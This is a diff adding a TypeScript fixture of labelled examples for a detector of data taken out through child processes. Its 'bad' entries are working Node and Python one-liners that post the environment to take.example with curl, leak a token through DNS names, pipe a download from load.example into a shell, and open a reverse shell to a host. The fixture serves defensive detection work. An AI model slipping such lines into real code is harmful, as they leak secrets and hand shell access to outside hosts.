@@ -1,0 +1,58 @@
+import type { DetectorExamples } from '../detector.ts';
+
+/** What the detector sees of data that another program takes out, or runs. */
+export const throughPrograms: DetectorExamples = {
+  bad: [
+    {
+      code: "import { spawn } from 'node:child_process'; const sender = spawn('curl', ['-d', '@-', 'https://take.example']); sender.stdin.end(JSON.stringify(process.env));",
+      why: 'a program that sends what it reads',
+      attributes: { source: 'environment', sink: 'network.body', to: 'take.example' },
+    },
+    {
+      code: "import { execFileSync } from 'node:child_process'; execFileSync('curl', ['-d', '@-', 'https://take.example'], { input: JSON.stringify(process.env) });",
+      why: 'the same with the text given at its start',
+      attributes: { source: 'environment', sink: 'network.body', to: 'take.example' },
+    },
+    {
+      path: 'x.py',
+      code: 'import json, os, subprocess\nsender = subprocess.Popen(["curl", "-d", "@-", "https://take.example"], stdin=subprocess.PIPE)\nsender.communicate(json.dumps(dict(os.environ)).encode())',
+      why: 'the same in Python',
+      attributes: { source: 'environment', sink: 'network.body', to: 'take.example' },
+    },
+    {
+      code: "import { exec } from 'node:child_process'; exec(`nslookup ${Buffer.from(process.env.ACME_TOKEN).toString('hex')}.take.example`);",
+      why: 'the labels of a name that a program asks for',
+      attributes: { source: 'environment:ACME_TOKEN', sink: 'dns.name', to: '*.take.example' },
+    },
+    {
+      path: 'x.py',
+      code: 'import os, subprocess\nsubprocess.run(["ping", "-c", "1", os.environ["ACME_TOKEN"].encode().hex() + ".take.example"])',
+      why: 'the same in Python, with its words one by one',
+      attributes: { source: 'environment:ACME_TOKEN', sink: 'dns.name', to: '*.take.example' },
+    },
+    {
+      code: "import { spawn } from 'node:child_process'; const shell = spawn('sh', ['-s']); fetch('https://load.example/x').then((r) => r.text()).then((text) => shell.stdin.end(text));",
+      why: 'a shell reads what was downloaded',
+      attributes: { source: 'download', sink: 'process.program', to: 'process' },
+    },
+    {
+      code: "import net from 'node:net'; import { spawn } from 'node:child_process'; const shell = spawn('/bin/sh', []); const link = net.connect(443, 'take.example'); link.pipe(shell.stdin);",
+      why: 'a shell whose commands come from a host',
+      attributes: { source: 'download', sink: 'process.program', to: 'process' },
+    },
+  ],
+  good: [
+    {
+      code: "import { spawn } from 'node:child_process'; const sorted = spawn('sort', ['-u']); sorted.stdin.end(Object.keys(process.env).join());",
+      why: 'a program that sends nothing',
+    },
+    {
+      code: "import { execFile } from 'node:child_process'; execFile('ping', ['-c', '1', process.env.ACME_HOST]);",
+      why: 'a host that is asked for as it is',
+    },
+    {
+      code: "import { spawn } from 'node:child_process'; const server = spawn('node', ['server.js']); fetch('https://load.example/x').then((r) => r.text()).then((text) => server.stdin.write(text));",
+      why: 'a program with a file of its own, which is talked to',
+    },
+  ],
+};
